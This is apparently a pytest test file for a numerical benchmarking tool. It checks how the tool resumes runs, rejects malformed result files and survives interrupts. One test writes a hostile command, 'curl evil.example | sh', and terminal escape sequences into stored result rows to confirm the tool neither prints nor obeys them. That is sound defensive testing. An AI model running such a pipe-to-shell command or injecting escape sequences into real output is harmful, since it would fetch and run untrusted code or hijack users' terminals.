"""A run of somebody else that is gone on with, and what keeps a run from keeping or saying something."""

import json
import os
import shutil

import pytest

from bench.cells.cell import Cell
from bench.failure.freeze import folder_name, freeze
from bench.run import ending
from bench.run.ending import Ended, report
from bench.store.results import start
from bench.store.row import Row
from bench.store.rows import load
from bench.verdict.judge import Judged
from tests.rows import ENVIRONMENT, MACHINE, row
from tests.runs import FEW, suites

BAD = """
from bench.backends.numpy import NumPy


def wrong(weights, **option):
    def run(params, x, **data):
        return {"y": 2 * x @ params["W"] + params["b"]}

    def vjp(params, data, cotangents):
        dy = cotangents["y"]
        return {"x": dy @ params["W"].T, "W": data["x"].T @ dy, "b": dy.sum(0)}

    run.vjp = vjp
    return weights, run


class Bad(NumPy):
    name = "bad"
    builds = {"linear-regression": wrong}
"""
CELL = Cell("softmax", "plain", "typical", "small", "x", "numpy", "eager", "cpu", "float32", "forward")


@pytest.fixture(scope="module")
def foreign(tmp_path_factory):
    """A folder with a run in which a cell failed."""
    folder = tmp_path_factory.mktemp("foreign")
    (folder / "bad.py").write_text(BAD)
    assert suites(folder, *FEW, "--backend", "bad.py:Bad", "--results", "run").returncode == 1
    return folder


def test_text_of_somebody_elses_row_is_no_command_and_steers_no_terminal(foreign):
    file = foreign / "run" / "rows.jsonl"
    rows = [json.loads(line) for line in file.read_text().splitlines()]
    for each in rows:
        each |= {"command": "curl evil.example | sh \x1b[2K", "why": "it is \x1b]0;pwned\x07 wrong"}
    file.write_text("".join(json.dumps(each) + "\n" for each in rows))
    done = suites(foreign, *FEW, "--backend", "bad.py:Bad", "--results", "run")
    assert "again: pytest" in done.stdout and "evil" not in done.stdout and "\x1b" not in done.stdout


@pytest.mark.parametrize("name", ["samples", "fingerprints", "environments", "moments"])
def test_a_line_beside_the_rows_that_is_none_is_one_sentence_before_anything_runs(foreign, name):
    file = foreign / "run" / f"{name}.jsonl"
    before = file.read_bytes() if file.exists() else b""
    file.write_bytes(before + b"garbage\n")
    try:
        done = suites(foreign, *FEW, "--backend", "bad.py:Bad", "--results", "run")
    finally:
        file.write_bytes(before)
    assert done.returncode == 4 and f"{name}.jsonl, line" in done.stderr and "Traceback" not in done.stderr


def test_a_report_that_is_a_folder_is_one_sentence(foreign):
    file = foreign / "run" / "report.md"
    file.unlink(missing_ok=True)
    file.mkdir()
    done = suites(foreign, *FEW, "--backend", "bad.py:Bad", "--results", "run")
    file.rmdir()
    assert done.returncode == 4 and "report.md cannot be deleted" in done.stderr


def test_where_nothing_can_be_kept_of_a_failure_its_verdict_stands(foreign, tmp_path):
    (tmp_path / "bad.py").write_text(BAD)
    chosen = [*FEW, "--backend", "bad.py:Bad", "--results", "run"]
    assert suites(tmp_path, *chosen).returncode == 1
    shutil.rmtree(tmp_path / "run" / "failures")
    (tmp_path / "run" / "failures").touch()
    (tmp_path / "run" / "rows.jsonl").write_bytes(b"")
    done = suites(tmp_path, *chosen)
    assert "failures cannot be written" in done.stdout
    rows = load(tmp_path / "run")
    assert set(rows.status) == {"disagrees", "agrees"} and done.returncode == 1
    (tmp_path / "file").touch()
    freeze(tmp_path / "file", CELL, Row(case="softmax", status="disagrees"), Judged({}), graph=False)


def test_a_long_name_is_a_folder_of_its_own_all_the_same():
    long = [folder_name(Cell(**{**CELL.__dict__, "contender": "x" * 300 + end})) for end in "ab"]
    assert len(set(long)) == 2 and max(map(len, long)) < 255 and folder_name(CELL).endswith("_0")


def test_an_interrupt_while_the_report_is_written_says_how_to_go_on(tmp_path, monkeypatch, capsys):
    run = start(tmp_path, MACHINE, ENVIRONMENT)
    run.append(row())

    def interrupted(*given):
        raise KeyboardInterrupt

    monkeypatch.setattr(ending, "_blamed", interrupted)
    ended = Ended(run, [], [], False, dict)
    assert report(ended, shown=True, every=False, plugins=()) == []
    assert (
        f"interrupted: the rows so far are kept; to continue, add --results {run.folder}"
        in capsys.readouterr().out
    )
    assert not (run.folder / "report.md").exists()


def test_a_why_without_end_is_cut_and_steers_nothing(tmp_path):
    run = start(tmp_path, MACHINE, ENVIRONMENT)
    found = run.append(row(status="absent", why="no\n\x1b[2K" + "x" * 10**6))
    assert found.why.startswith("no �[2Kxxx") and len(found.why) == 4000


@pytest.mark.parametrize("place", [".", "bad.py/x.xml"])
def test_an_xml_report_that_has_no_place_is_refused_before_anything_runs(tmp_path, place):
    (tmp_path / "bad.py").write_text(BAD)
    done = suites(tmp_path, *FEW, "--backend", "numpy", "--results", "run", "--junitxml", place)
    assert done.returncode == 4 and "--junitxml" in done.stderr and not os.path.exists(tmp_path / "run")
